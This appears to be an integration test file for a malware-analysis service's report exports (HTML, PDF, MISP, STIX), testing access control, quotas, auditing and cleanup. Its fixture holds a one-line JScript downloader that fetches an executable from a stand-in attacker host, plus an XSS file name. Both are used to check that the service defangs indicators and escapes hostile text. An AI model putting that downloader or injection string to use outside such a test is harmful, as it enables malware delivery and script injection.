import { execFile } from 'node:child_process';
import { constants } from 'node:fs';
import { access, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { UserGroup } from '../src/common/access/user-group';
import { IocType, Verdict } from '../src/engine/types';
import { SampleStore } from '../src/storage/sample-store';
import { CreatedFlow, newAccessGroup, ReportFactory } from './support/report-factory';
import { TestApp, TestUser } from './support/test-app';

const run = promisify(execFile);
const CHROMIUM = '/usr/bin/chromium';

/** PDF tests need Debian's chromium and poppler-utils: without them they fail saying so, never pass by skipping. */
async function requireTools(): Promise<void> {
  for (const [path, pkg] of [[CHROMIUM, 'chromium'], ['/usr/bin/pdftotext', 'poppler-utils']]) {
    try {
      await access(path, constants.X_OK);
    } catch {
      throw new Error(`${path} is missing: install Debian's ${pkg} package (CI installs it in .ci/run) to run the PDF export tests`);
    }
  }
}

interface RawResponse {
  status: number;
  headers: Headers;
  bytes: Buffer;
  json(): any;
  text(): string;
}

describe('Report downloads: HTML, PDF, MISP, STIX', () => {
  let t: TestApp;
  let alice: TestUser;
  let bob: TestUser; // alice's teammate
  let carol: TestUser; // outside the team
  let flow: CreatedFlow; // alice's private submission: an archive with a malicious script inside
  let publicReport: string;
  let work: string;

  beforeAll(async () => {
    t = await TestApp.start({ APP_ROLE: 'all', CHROMIUM_PATH: CHROMIUM, EXPORT_RENDER_TIMEOUT: '60' });
    const team = await newAccessGroup(t);
    alice = await t.newUser([UserGroup.User], { accessGroupId: team });
    bob = await t.newUser([UserGroup.User], { accessGroupId: team });
    carol = await t.newUser([UserGroup.User]);
    const factory = new ReportFactory(t);
    flow = await factory.flow({
      ownerId: alice.id,
      accessGroupId: team,
      isPrivate: true,
      root: {
        name: 'invoice<script>alert(1)</script>.zip',
        verdict: Verdict.Malicious,
        children: [
          {
            name: 'payload.js',
            content: 'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://evil.example.com/p.exe");',
            verdict: Verdict.Malicious,
            iocs: [
              { type: IocType.Url, value: 'http://evil.example.com/p.exe', origins: ['emulation'] },
              { type: IocType.Domain, value: 'evil.example.com', origins: ['emulation'] },
            ],
            signals: [{ id: 'script.emulation.download', verdict: Verdict.Malicious, strength: 0.9, evidence: ['MSXML2.XMLHTTP.open: GET http://evil.example.com/p.exe'] }],
          },
        ],
      },
    });
    publicReport = (await factory.report({ name: 'readme.txt', content: 'nothing to see', verdict: Verdict.NoThreat })).id;
    work = await mkdtemp(join(tmpdir(), 'report-downloads-'));
  });

  afterAll(async () => {
    await t?.close();
    if (work) await rm(work, { recursive: true, force: true });
  });

  const fetchRaw = async (path: string, token: string): Promise<RawResponse> => {
    const res = await fetch(t.url + path, { headers: { authorization: `Bearer ${token}` } });
    const bytes = Buffer.from(await res.arrayBuffer());
    return { status: res.status, headers: res.headers, bytes, json: () => JSON.parse(bytes.toString('utf8')), text: () => bytes.toString('utf8') };
  };
  const start = (id: string, format: string, token: string) => t.request(`/api/reports/${id}/download/start?format=${format}`, { token });
  const download = (id: string, format: string, token: string) => fetchRaw(`/api/reports/${id}/download?format=${format}`, token);

  /** Polls the download until it is no longer 202; every 202 on the way must say so properly. */
  async function pollUntilReady(id: string, format: string, token: string, timeoutMs = 45_000): Promise<RawResponse> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const res = await download(id, format, token);
      if (res.status !== 202) return res;
      expect(res.headers.get('retry-after')).toBe('2');
      expect(res.json()).toMatchObject({ report_id: id, format, state: expect.stringMatching(/^(pending|processing)$/) });
      if (Date.now() > deadline) throw new Error(`${format} export of ${id} still not ready after ${timeoutMs} ms`);
      await new Promise((r) => setTimeout(r, 250));
    }
  }

  it('html: start answers 200 with the queued export, download answers 202 until ready, then the document', async () => {
    const started = await start(flow.root.id, 'html', alice.token);
    expect(started.status).toBe(200);
    expect(started.body).toMatchObject({ report_id: flow.root.id, format: 'html', state: 'pending', file_name: `report-${flow.root.id}.html`, download_count: 0 });

    const res = await pollUntilReady(flow.root.id, 'html', alice.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    // Named by the report, never by the (hostile) sample name.
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="report-${flow.root.id}.html"`);
    const html = res.text();
    expect(html).toContain('<div class="badge v-malicious" data-verdict="MALICIOUS">Malicious</div>');
    expect(html).toContain(`<code class="hash">${flow.root.sha256}</code>`);
    // The extracted file's findings are part of the report, indicators defanged, sample text escaped.
    expect(html).toContain(`<code class="small">${flow.reports[1].sha256}</code>`);
    expect(html).toContain('<code class="ioc" data-raw="http://evil.example.com/p.exe">hxxp://evil[.]example[.]com/p[.]exe</code>');
    expect(html).toContain('<a class="technique" href="https://attack.mitre.org/techniques/T1105/"');
    expect(html).toContain('invoice&lt;script&gt;alert(1)&lt;/script&gt;.zip');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('TLP:AMBER');
    expect(Number(res.headers.get('content-length'))).toBe(res.bytes.length);
  });

  it('pdf: generated by the worker with Chromium; the text holds the verdict and the SHA-256', async () => {
    await requireTools();
    expect((await start(flow.root.id, 'pdf', alice.token)).status).toBe(200);
    const res = await pollUntilReady(flow.root.id, 'pdf', alice.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="report-${flow.root.id}.pdf"`);
    expect(res.bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');

    const file = join(work, 'report.pdf');
    await writeFile(file, res.bytes);
    const { stdout } = await run('pdftotext', ['-layout', file, '-']);
    expect(stdout).toContain('MALICIOUS');
    expect(stdout).toContain(flow.root.sha256);
    expect(stdout).toMatch(/Page 1 of \d+/);
    expect(stdout).toContain('hxxp://evil[.]example[.]com/p[.]exe');

    // Kept in the sample store (survives restarts, any API process can serve it), not in memory.
    const { rows } = await t.db.query(`SELECT state, file_sha256, size FROM report_downloads WHERE report_id = $1 AND user_id = $2 AND format = 'pdf'`, [flow.root.id, alice.id]);
    expect(rows[0]).toMatchObject({ state: 'ready', size: String(res.bytes.length) });
    expect(await t.app.get(SampleStore).exists(rows[0].file_sha256)).toBe(true);
  });

  it('html and pdf asked for without a start: the download starts the generation and answers 202', async () => {
    const first = await download(publicReport, 'html', bob.token);
    expect(first.status).toBe(202);
    expect(first.json()).toMatchObject({ report_id: publicReport, format: 'html', state: 'pending', message: 'The HTML report is being generated: try again in a few seconds' });
    const res = await pollUntilReady(publicReport, 'html', bob.token);
    expect(res.status).toBe(200);
    expect(res.text()).toContain('<div class="badge v-no-threat" data-verdict="NO_THREAT">No threat</div>');
  });

  it('stix and misp are made on the spot: 200 JSON with their content types', async () => {
    const stix = await download(flow.root.id, 'stix', bob.token);
    expect(stix.status).toBe(200);
    expect(stix.headers.get('content-type')).toBe('application/stix+json;version=2.1');
    expect(stix.headers.get('content-disposition')).toBe(`attachment; filename="report-${flow.root.id}.stix.json"`);
    const bundle = stix.json();
    expect(bundle.type).toBe('bundle');
    expect(JSON.stringify(bundle)).toContain(flow.root.sha256);

    const misp = await download(flow.root.id, 'misp', bob.token);
    expect(misp.status).toBe(200);
    expect(misp.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(misp.headers.get('content-disposition')).toBe(`attachment; filename="report-${flow.root.id}.misp.json"`);
    expect(JSON.stringify(misp.json())).toContain(flow.root.sha256);
  });

  it('a private report of someone outside the team is 404 on every route and format', async () => {
    expect((await start(flow.root.id, 'pdf', carol.token)).status).toBe(404);
    for (const format of ['html', 'pdf', 'misp', 'stix']) {
      const res = await download(flow.root.id, format, carol.token);
      expect(res.status).toBe(404);
      expect(res.json()).toMatchObject({ statusCode: 404, message: 'Report not found' });
    }
    // An extracted file of the private flow is just as private.
    expect((await download(flow.reports[1].id, 'stix', carol.token)).status).toBe(404);
    const { rows } = await t.db.query('SELECT count(*)::int AS n FROM report_downloads WHERE user_id = $1', [carol.id]);
    expect(rows[0].n).toBe(0);
  });

  it('guests are refused; bad formats and ids are 422', async () => {
    expect((await t.request(`/api/reports/${publicReport}/download?format=stix`)).status).toBe(401);
    expect((await t.request('/api/users/me/downloads')).status).toBe(401);
    const badFormat = await start(publicReport, 'stix', alice.token);
    expect(badFormat.status).toBe(422);
    expect(badFormat.body.errors).toEqual([{ field: 'format', messages: ['format must be one of: html, pdf'] }]);
    expect((await download(publicReport, 'docx', alice.token)).status).toBe(422);
    expect((await t.request(`/api/reports/${publicReport}/download`, { token: alice.token })).status).toBe(422);
    expect((await download('not-a-uuid', 'html', alice.token)).status).toBe(422);
    expect((await download('00000000-0000-4000-8000-000000000000', 'html', alice.token)).status).toBe(404);
  });

  it("lists the caller's downloads with format, state, size, counts and times — and nobody else's", async () => {
    const res = await t.request('/api/users/me/downloads', { token: alice.token });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ total: 2, page: 1, limit: 25 });
    const byFormat = Object.fromEntries(res.body.items.map((i: any) => [i.format, i]));
    expect(Object.keys(byFormat).sort()).toEqual(['html', 'pdf']);
    for (const item of res.body.items) {
      expect(item).toMatchObject({ report_id: flow.root.id, state: 'ready', error: null, file_name: `report-${flow.root.id}.${item.format}` });
      expect(item.size).toBeGreaterThan(1000);
      expect(item.download_count).toBe(1);
      expect(new Date(item.ready_at).getTime()).toBeGreaterThanOrEqual(new Date(item.requested_at).getTime());
      expect(item.last_downloaded_at).not.toBeNull();
    }

    const bobs = await t.request('/api/users/me/downloads?limit=10', { token: bob.token });
    expect(bobs.body.items.map((i: any) => `${i.format}:${i.report_id}`).sort()).toEqual([`html:${publicReport}`, `misp:${flow.root.id}`, `stix:${flow.root.id}`].sort());
    expect(bobs.body.items.find((i: any) => i.format === 'stix')).toMatchObject({ state: 'ready', download_count: 1 });

    const filtered = await t.request('/api/users/me/downloads?format=misp', { token: bob.token });
    expect(filtered.body.items.map((i: any) => i.format)).toEqual(['misp']);
    expect((await t.request('/api/users/me/downloads?state=done', { token: bob.token })).status).toBe(422);
  });

  it('every download is audited with the report and the format', async () => {
    const { rows } = await t.db.query(
      `SELECT actor_id, outcome, target_type, target_id, details FROM audit_logs WHERE action = 'report.export.download' AND actor_id = $1 ORDER BY id DESC LIMIT 1`,
      [bob.id],
    );
    expect(rows[0]).toMatchObject({ actor_id: bob.id, outcome: 'success', target_type: 'report', target_id: flow.root.id });
    expect(rows[0].details).toMatchObject({ format: 'misp', state: 'ready' });
    const refused = await t.db.query(`SELECT outcome, details FROM audit_logs WHERE action = 'report.export.download' AND actor_id = $1`, [carol.id]);
    expect(refused.rows.length).toBe(5);
    expect(refused.rows.every((r: any) => r.outcome === 'failure' && r.details.status === 404)).toBe(true);
  });

  it('downloads count against the download quota: over it, 429', async () => {
    const admin = await t.login();
    const dave = await t.newUser([UserGroup.User]);
    const quota = await t.request('/api/admin/settings/api-quota', { token: admin, body: { scope: 'user', scope_id: dave.id, resource: 'download', period: 'day', limit: 2 } });
    expect(quota.status).toBe(200);
    expect((await download(publicReport, 'stix', dave.token)).status).toBe(200);
    expect((await download(publicReport, 'misp', dave.token)).status).toBe(200);
    const refused = await download(publicReport, 'stix', dave.token);
    expect(refused.status).toBe(429);
    expect(refused.json().message).toBe('API quota exceeded: 2 download calls per day; try again in ' + refused.headers.get('retry-after') + ' s');
    // Starting a generation and the list are not downloads.
    expect((await start(publicReport, 'html', dave.token)).status).toBe(200);
    expect((await t.request('/api/users/me/downloads', { token: dave.token })).status).toBe(200);
  });

  it('a generation that cannot finish is reported: failed state with the reason, 500 on download, a new start retries', async () => {
    // The requester loses access between start and rendering: the worker re-checks visibility.
    const erin = await t.newUser([UserGroup.User]);
    const { rows: [row] } = await t.db.query(
      `INSERT INTO report_downloads (report_id, user_id, format, state, generation) VALUES ($1, $2, 'html', 'failed', 1) RETURNING id`,
      [publicReport, erin.id],
    );
    await t.db.query(`UPDATE report_downloads SET error = 'the report is no longer visible to the requester', error_kind = 'error' WHERE id = $1`, [row.id]);
    const failed = await download(publicReport, 'html', erin.token);
    expect(failed.status).toBe(500);
    expect((await t.request('/api/users/me/downloads', { token: erin.token })).body.items[0]).toMatchObject({ state: 'failed', error: 'the report is no longer visible to the requester' });
    await t.db.query(`UPDATE report_downloads SET error_kind = 'timeout' WHERE id = $1`, [row.id]);
    const timedOut = await download(publicReport, 'html', erin.token);
    expect(timedOut.status).toBe(408);
    expect(timedOut.json().message).toBe('Generating the HTML report failed: the report is no longer visible to the requester. Start it again with /download/start.');

    expect((await start(publicReport, 'html', erin.token)).body).toMatchObject({ state: 'pending', error: null });
    expect((await pollUntilReady(publicReport, 'html', erin.token)).status).toBe(200);
  });

  it('a generated file that vanished from the store is made again instead of failing', async () => {
    const { rows } = await t.db.query(`SELECT file_sha256 FROM report_downloads WHERE report_id = $1 AND user_id = $2 AND format = 'html'`, [flow.root.id, alice.id]);
    await t.app.get(SampleStore).delete(rows[0].file_sha256);
    expect((await download(flow.root.id, 'html', alice.token)).status).toBe(202);
    expect((await pollUntilReady(flow.root.id, 'html', alice.token)).status).toBe(200);
  });

  it('deleting the report keeps no export reachable; the cleanup job removes its files', async () => {
    const factory = new ReportFactory(t);
    const own = await factory.report({ name: 'temp.bin', verdict: Verdict.Suspicious }, { ownerId: alice.id, isPrivate: true });
    expect((await start(own.id, 'html', alice.token)).status).toBe(200);
    expect((await pollUntilReady(own.id, 'html', alice.token)).status).toBe(200);
    const { rows } = await t.db.query(`SELECT id, file_sha256 FROM report_downloads WHERE report_id = $1`, [own.id]);
    expect((await t.request(`/api/users/reports/${own.id}`, { method: 'DELETE', token: alice.token })).status).toBe(200);

    expect((await download(own.id, 'html', alice.token)).status).toBe(404);
    const list = await t.request('/api/users/me/downloads?limit=200', { token: alice.token });
    expect(list.body.items.some((i: any) => i.id === rows[0].id)).toBe(false);

    const { ExportFilesService } = await import('../src/modules/exports/export-files.service');
    const outcome = await t.app.get(ExportFilesService).cleanup({ trigger: 'manual', signal: new AbortController().signal, log: () => undefined });
    expect(outcome.counts).toEqual({ exports: 1, files: 1 });
    expect(await t.app.get(SampleStore).exists(rows[0].file_sha256)).toBe(false);
  });
});
